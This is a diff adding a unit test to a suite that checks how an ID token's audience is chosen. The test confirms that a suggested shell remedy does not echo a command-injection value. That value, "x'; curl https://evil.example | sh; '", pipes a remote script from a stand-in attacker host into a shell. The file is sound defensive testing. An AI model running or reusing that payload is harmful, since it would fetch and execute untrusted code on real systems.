@@ -29,6 +29,13 @@ describe('whom an ID token is made for', () => {
     expect(textOf(fault)).not.toContain('\u001b');
   });
 
+  it('is proposed for a shell only where it can do nothing there', async () => {
+    const evil = "x'; curl https://evil.example | sh; '";
+    expect((await faultOf(() => audienceFor(address, saying(evil), undefined))).remedy).not.toContain('evil');
+    const plain = await faultOf(() => audienceFor(address, saying('acme-crates'), undefined));
+    expect(plain.remedy).toContain("WAYBILL_AUDIENCE='acme-crates'");
+  });
+
   it('is what the job says, if the registry says the same', async () => {
     expect(audienceFor(address, saying('acme-crates'), 'acme-crates')).toBe('acme-crates');
     const fault = await faultOf(() => audienceFor(address, saying('sts.amazonaws.com'), 'acme-crates'));
